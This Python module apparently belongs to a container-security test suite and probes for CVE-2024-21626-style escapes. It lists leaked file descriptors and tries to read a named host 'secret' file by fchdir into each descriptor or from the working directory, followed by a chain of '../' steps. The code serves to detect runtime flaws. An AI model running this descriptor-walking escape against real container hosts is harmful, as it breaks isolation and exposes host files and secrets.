"""CVE-2024-21626 and its kin: descriptors and working directories that a container's process should not have."""

import os

import kernel
from run import Failed

DOTS = "../" * 20


def inherited(of="self"):
    """Look for open descriptors beyond 0 to 2."""
    folder, found = f"/proc/{of}/fd", {}
    for name in os.listdir(folder):
        try:
            found[int(name)] = os.readlink(f"{folder}/{name}")
        except FileNotFoundError:  # that of the listing itself
            continue
    if set(found) <= {0, 1, 2}:
        raise Failed(f"only {found}")
    return found


def from_working_directory(secret_path):
    """Read a file of the host relative to the working directory, that the runtime may have left outside the root."""
    return kernel.read_some(f"{DOTS}{secret_path.lstrip('/')}")


def from_descriptors(secret_path):
    """Read a file of the host relative to any descriptor, open or not."""
    for fd in range(128):
        try:
            os.fchdir(fd)
            return fd, kernel.read_some(f"{DOTS}{secret_path.lstrip('/')}")
        except OSError:
            continue
    raise Failed("no descriptor leads out")
